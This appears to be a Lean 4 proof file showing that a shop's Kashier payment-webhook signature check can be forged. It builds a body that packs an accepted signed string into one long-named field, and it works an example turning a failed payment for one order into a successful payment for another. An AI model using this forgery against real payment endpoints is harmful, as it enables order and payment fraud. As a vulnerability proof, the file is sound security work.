import SwiftBite.Payments.Kashier

/-! # What a webhook signature vouches for

The body names its own signed fields, and the names are joined as they are.  Whoever has one
accepted body reads its signed string as a single field with a long name, and is free in all
that the webhook handler acts on; the event is not signed in the first place.
-/

set_option autoImplicit false

namespace SwiftBite.Verified.Forgery

open Kashier

variable {hmac : Text → Text → Text} {apiKey signature : Text} {payload data : Json}

/-! ## An accepted body -/

theorem verify_eq_true {keys : List Json}
    (accepted : verifyKashierSignature hmac data keys signature apiKey = some true) :
    signature.isEmpty = false ∧ keys ≠ [] ∧ ∃ query, queryString data keys = some query ∧
    fromHex (hmac apiKey query) = fromHex signature := by
  unfold verifyKashierSignature at accepted
  split at accepted
  next => simp at accepted
  next given =>
    simp only [Bool.or_eq_true, not_or, Bool.not_eq_true, List.isEmpty_eq_false_iff] at given
    obtain ⟨query, isQuery, accepted⟩ := Option.bind_eq_some_iff.1 accepted
    refine ⟨by simp [given.1], given.2, query, isQuery, ?_⟩
    dsimp only at accepted
    split at accepted
    next => simp at accepted
    next => simpa using accepted

/-- Any fields with the same signed string are accepted as well. -/
theorem verify_of_query {query : Text} {data' : Json} (keys' : List Json)
    (given : signature.isEmpty = false) (nonempty : keys' ≠ [])
    (isQuery : queryString data' keys' = some query)
    (same : fromHex (hmac apiKey query) = fromHex signature) :
    verifyKashierSignature hmac data' keys' signature apiKey = some true := by
  have someKey : keys'.isEmpty = false := by simpa using nonempty
  simp [verifyKashierSignature, given, someKey, isQuery, same]

theorem mapM_length {α β : Type} {f : α → Option β} {l : List α} {l' : List β}
    (mapped : l.mapM f = some l') : l'.length = l.length := by
  induction l generalizing l' with
  | nil =>
    simp only [List.mapM_nil, Option.pure_def, Option.some.injEq] at mapped
    rw [← mapped]
    rfl
  | cons a l inductionHypothesis =>
    simp only [List.mapM_cons, Option.bind_eq_bind, Option.pure_def, Option.bind_eq_some_iff,
      Option.some.injEq] at mapped
    obtain ⟨b, _, bs, rest, rfl⟩ := mapped
    simp [inductionHypothesis rest]

/-! ## One field with a long name -/

theorem intercalate_cons_cons (p q : Text) (parts : List Text) :
    (text "&").intercalate (p :: q :: parts) =
      p ++ text "&" ++ (text "&").intercalate (q :: parts) := by
  simp [List.intercalate]

theorem mapM_cons_some {name : Text} {names parts : List Text}
    (isParts : (name :: names).mapM (signedPart data) = some parts) :
    ∃ part rest, signedPart data name = some part ∧ names.mapM (signedPart data) = some rest ∧
    parts = part :: rest := by
  simp only [List.mapM_cons, Option.bind_eq_bind, Option.pure_def, Option.bind_eq_some_iff,
    Option.some.injEq] at isParts
  obtain ⟨part, isPart, rest, isRest, rfl⟩ := isParts
  exact ⟨part, rest, isPart, isRest, rfl⟩

/-- A signed string ends in the value of one field. -/
theorem query_last {names parts : List Text} (isParts : names.mapM (signedPart data) = some parts)
    (nonempty : names ≠ []) :
    ∃ key value encoded, (text "&").intercalate parts = key ++ text "=" ++ encoded ∧
    encodeURIComponent value = some encoded := by
  induction names generalizing parts with
  | nil => exact absurd rfl nonempty
  | cons name names inductionHypothesis =>
    obtain ⟨part, rest, isPart, isRest, rfl⟩ := mapM_cons_some isParts
    cases names with
    | nil =>
      obtain rfl : rest = [] := by simpa using isRest.symm
      simp only [signedPart, Option.bind_eq_bind, Option.bind_eq_some_iff,
        Option.some.injEq] at isPart
      obtain ⟨value, _, encoded, isEncoded, rfl⟩ := isPart
      exact ⟨name, value, encoded, by simp, isEncoded⟩
    | cons name' names =>
      obtain ⟨key, value, encoded, split, isEncoded⟩ :=
        inductionHypothesis isRest (List.cons_ne_nil _ _)
      obtain ⟨part', rest', _, _, rfl⟩ := mapM_cons_some isRest
      refine ⟨part ++ text "&" ++ key, value, encoded, ?_, isEncoded⟩
      rw [intercalate_cons_cons, split]
      simp only [List.append_assoc]

/-- When there is more than one field, an `&` stands before the last `=`. -/
theorem query_split {keys : List Json} {query : Text} (isQuery : queryString data keys = some query)
    (several : 1 < keys.length) :
    ∃ key value encoded, query = key ++ text "=" ++ encoded ∧
    encodeURIComponent value = some encoded ∧ (38 : UInt16) ∈ key := by
  simp only [queryString, Option.bind_eq_bind, Option.bind_eq_some_iff,
    Option.some.injEq] at isQuery
  obtain ⟨names, isNames, parts, isParts, rfl⟩ := isQuery
  have several : 1 < (names.insertionSort fun a b => textLe a b).length := by
    rwa [List.length_insertionSort, mapM_length isNames]
  match sorted : names.insertionSort fun a b => textLe a b, several with
  | name :: name' :: names', _ =>
    rw [sorted] at isParts
    obtain ⟨part, rest, _, isRest, rfl⟩ := mapM_cons_some isParts
    obtain ⟨key, value, encoded, split, isEncoded⟩ := query_last isRest (List.cons_ne_nil _ _)
    obtain ⟨part', rest', _, _, rfl⟩ := mapM_cons_some isRest
    refine ⟨part ++ text "&" ++ key, value, encoded, ?_, isEncoded, ?_⟩
    · rw [intercalate_cons_cons, split]
      simp only [List.append_assoc]
    · exact List.mem_append_left _ (List.mem_append_right _ (by decide))

/-! ## The forged body -/

/-- A body that acts as it likes, signed in one field. -/
def forged (acted : ActedOn) (key value : Text) : Json :=
  .object [(text "event", .string acted.event),
    (text "data", .object [(text "signatureKeys", .array [.string key]),
      (text "status", .string acted.status),
      (text "merchantOrderId", .string acted.merchantOrderId),
      (text "transactionId", .string acted.providerTransactionId),
      (key, .string value)])]

theorem actedOn_forged (acted : ActedOn) (key value : Text) :
    actedOn (forged acted key value) = some acted :=
  rfl

theorem verify_forged {acted : ActedOn} {key value encoded : Text}
    (given : signature.isEmpty = false) (long : (38 : UInt16) ∈ key)
    (isEncoded : encodeURIComponent value = some encoded)
    (same : fromHex (hmac apiKey (key ++ text "=" ++ encoded)) = fromHex signature) :
    verifyWebhook hmac apiKey (forged acted key value) signature = some true := by
  have other : ∀ name : Text, (38 : UInt16) ∉ name → (key == name) = false := by
    intro name short
    refine beq_false_of_ne ?_
    rintro rfl
    exact short long
  have isValue : propertyText (dataOf (forged acted key value)) key = some value := by
    have found : (dataOf (forged acted key value)).property key = some (.string value) := by
      show List.lookup key _ = _
      simp only [List.lookup_cons, other (text "signatureKeys") (by decide),
        other (text "status") (by decide),
        other (text "merchantOrderId") (by decide), other (text "transactionId") (by decide),
        beq_self_eq_true]
    rw [propertyText, found]
    rfl
  refine verify_of_query [.string key] given (List.cons_ne_nil _ _) ?_ same
  simp [queryString, Json.toText, signedPart, isValue, isEncoded]


/-- The body with another event. -/
def withEvent (event : Text) : Json → Json
  | .object fields => .object ((text "event", .string event) :: fields)
  | other => other

theorem dataOf_withEvent (event : Text) (payload : Json) :
    dataOf (withEvent event payload) = dataOf payload := by
  cases payload <;> rfl

/-- Only an object can be accepted. -/
theorem object_of_accepted (accepted : verifyWebhook hmac apiKey payload signature = some true) :
    ∃ fields, payload = .object fields := by
  obtain ⟨_, someKey, _⟩ := verify_eq_true accepted
  cases payload with
  | object fields => exact ⟨fields, rfl⟩
  | _ => exact absurd rfl someKey

theorem actedOn_withEvent {acted : ActedOn} {fields : List (Text × Json)}
    (acts : actedOn (.object fields) = some acted) (event : Text) :
    actedOn (withEvent event (.object fields)) = some { acted with event := event } := by
  simp only [actedOn, Option.bind_eq_bind, Option.bind_eq_some_iff, Option.some.injEq] at acts
  obtain ⟨_, _, status, isStatus, merchantOrderId, isOrder, transactionId, isTransaction, rfl⟩ :=
    acts
  have own : (withEvent event (.object fields)).property (text "event") =
      some (.string event) := rfl
  have shown : (Kashier.orElse (some (.string event)) (.string [])).toText = some event := rfl
  simp only [actedOn, dataOf_withEvent, own, shown, isStatus, isOrder, isTransaction,
    Option.bind_eq_bind, Option.bind_some]

/-! ## What the signature vouches for -/

/-- All bodies that the signature is good for make the handler act the same. -/
def Vouches (hmac : Text → Text → Text) (apiKey : Text) (payload : Json)
    (signature : Text) : Prop :=
  ∀ payload', verifyWebhook hmac apiKey payload' signature = some true →
  actedOn payload' = actedOn payload

/-- No accepted body is vouched for: it may come with another event.  And as soon as it has two
signed fields, its signature is good for whatever the handler may act on. -/
theorem signature_vouches_for_no_webhook (hmac : Text → Text → Text) (apiKey signature : Text)
    (payload : Json) (acted : ActedOn)
    (accepted : verifyWebhook hmac apiKey payload signature = some true)
    (acts : actedOn payload = some acted) :
    ¬ Vouches hmac apiKey payload signature ∧
      (1 < (signatureKeysOf (dataOf payload)).length →
        ∀ acted', ∃ payload', verifyWebhook hmac apiKey payload' signature = some true ∧
        actedOn payload' = some acted') := by
  constructor
  · intro vouches
    obtain ⟨fields, rfl⟩ := object_of_accepted accepted
    have alsoAccepted :
        verifyWebhook hmac apiKey (withEvent (0 :: acted.event) (.object fields)) signature =
        some true := by
      rwa [verifyWebhook, dataOf_withEvent]
    have same := vouches _ alsoAccepted
    rw [acts, actedOn_withEvent acts, Option.some.injEq] at same
    have longer := congrArg (fun acted => acted.event.length) same
    simp at longer
  · intro several acted'
    obtain ⟨given, _, query, isQuery, same⟩ := verify_eq_true accepted
    obtain ⟨key, value, encoded, rfl, isEncoded, long⟩ := query_split isQuery several
    exact ⟨forged acted' key value, verify_forged given long isEncoded same,
      actedOn_forged acted' key value⟩

/-! ## One order's webhook pays another -/

def lowerHexDigit (n : ℕ) : UInt16 := UInt16.ofNat (if n < 10 then 48 + n else 87 + n)

/-- The digits of the message itself: no two messages have the same. -/
def digits (message : Text) : Text :=
  message.flatMap fun unit =>
    [lowerHexDigit (unit.toNat / 4096), lowerHexDigit (unit.toNat / 256 % 16),
    lowerHexDigit (unit.toNat / 16 % 16), lowerHexDigit (unit.toNat % 16)]

theorem lowerHexDigit_inj {n m : ℕ} (hn : n < 16) (hm : m < 16)
    (same : lowerHexDigit n = lowerHexDigit m) : n = m := by
  have all : ∀ n m : Fin 16, lowerHexDigit n = lowerHexDigit m → n = m := by decide
  exact congrArg Fin.val (all ⟨n, hn⟩ ⟨m, hm⟩ same)

theorem digits_injective : Function.Injective digits := by
  intro message
  induction message with
  | nil =>
    intro message' same
    cases message' with
    | nil => rfl
    | cons => simp [digits] at same
  | cons unit message inductionHypothesis =>
    intro message' same
    cases message' with
    | nil => simp [digits] at same
    | cons unit' message' =>
      simp only [digits, List.flatMap_cons, List.cons_append, List.nil_append,
        List.cons.injEq] at same
      obtain ⟨d₁, d₂, d₃, d₄, rest⟩ := same
      have bound := unit.toNat_lt
      have bound' := unit'.toNat_lt
      have e₁ := lowerHexDigit_inj (by omega) (by omega) d₁
      have e₂ := lowerHexDigit_inj (by omega) (by omega) d₂
      have e₃ := lowerHexDigit_inj (by omega) (by omega) d₃
      have e₄ := lowerHexDigit_inj (by omega) (by omega) d₄
      have sameUnit : unit = unit' := UInt16.toNat_inj.1 (by omega)
      rw [sameUnit, inductionHypothesis rest]

def key (name : String) : Json := .string (text name)

/-- A payment of order `o-1` that failed, as Kashier sends it. -/
def genuine : Json :=
  .object [(text "platform", key "kashier"), (text "event", key "pay"),
    (text "data", .object [(text "merchantOrderId", key "o-1"), (text "transactionId", key "TX-1"),
      (text "status", key "FAILED"),
      (text "amount", key "100.00"), (text "currency", key "EGP"),
      (text "channel", key "online | e-commerce"),
      (text "signatureKeys", .array [key "amount", key "channel", key "currency",
        key "merchantOrderId", key "status", key "transactionId"])])]

def genuineQuery : Text :=
  text "amount=100.00&channel=online%20%7C%20e-commerce&currency=EGP&merchantOrderId=o-1" ++
    text "&status=FAILED&transactionId=TX-1"

/-- The HMAC-SHA256 of `genuineQuery` under the key `api-key`. -/
def genuineSignature : Text :=
  text "b57e0b0e1918b01da68f6ba4eb66a6816b751e95ab425099f57e01cd0b12611d"

/-- HMAC-SHA256 where its value is known, and otherwise the message, which has another length. -/
def hmacSha256 (secret message : Text) : Text :=
  if secret = text "api-key" ∧ message = genuineQuery then genuineSignature
  else 48 :: digits message

theorem length_digits (message : Text) : (digits message).length = 4 * message.length := by
  induction message with
  | nil => rfl
  | cons unit message inductionHypothesis =>
    simp only [digits, List.flatMap_cons, List.length_append, List.length_cons,
      List.length_nil] at inductionHypothesis ⊢
    omega

theorem hmacSha256_injective (secret : Text) : Function.Injective (hmacSha256 secret) := by
  have apart : ∀ message, genuineSignature ≠ 48 :: digits message := by
    intro message same
    have lengths := congrArg List.length same
    rw [List.length_cons, length_digits] at lengths
    have known : genuineSignature.length = 64 := by decide +kernel
    omega
  intro message message' same
  unfold hmacSha256 at same
  split at same <;> split at same
  next here there => exact here.2.trans there.2.symm
  next => exact absurd same (apart _)
  next => exact absurd same.symm (apart _)
  next => exact digits_injective (List.cons.inj same).2

/-- The same signature, for a payment of order `o-2` that succeeded. -/
def otherOrder : Json :=
  forged ⟨text "pay", text "SUCCESS", text "o-2", text "TX-2"⟩
    (text "amount=100.00&channel=online%20%7C%20e-commerce&currency=EGP&merchantOrderId=o-1" ++
      text "&status=FAILED&transactionId") (text "TX-1")

theorem genuine_webhook_vouches_for_nothing :
    ¬ Vouches hmacSha256 (text "api-key") genuine genuineSignature ∧
    (1 < (signatureKeysOf (dataOf genuine)).length →
      ∀ acted', ∃ payload',
        verifyWebhook hmacSha256 (text "api-key") payload' genuineSignature = some true ∧
        actedOn payload' = some acted') :=
  signature_vouches_for_no_webhook hmacSha256 (text "api-key") genuineSignature genuine
    ⟨text "pay", text "FAILED", text "o-1", text "TX-1"⟩ (by decide +kernel) (by decide +kernel)

theorem failed_webhook_pays_another_order : Function.Injective (hmacSha256 (text "api-key")) ∧
    verifyWebhook hmacSha256 (text "api-key") genuine genuineSignature = some true ∧
    actedOn genuine = some ⟨text "pay", text "FAILED", text "o-1", text "TX-1"⟩ ∧
    verifyWebhook hmacSha256 (text "api-key") otherOrder genuineSignature = some true ∧
    actedOn otherOrder = some ⟨text "pay", text "SUCCESS", text "o-2", text "TX-2"⟩ :=
  ⟨hmacSha256_injective _,
    by decide +kernel, by decide +kernel, by decide +kernel, by decide +kernel⟩

end SwiftBite.Verified.Forgery
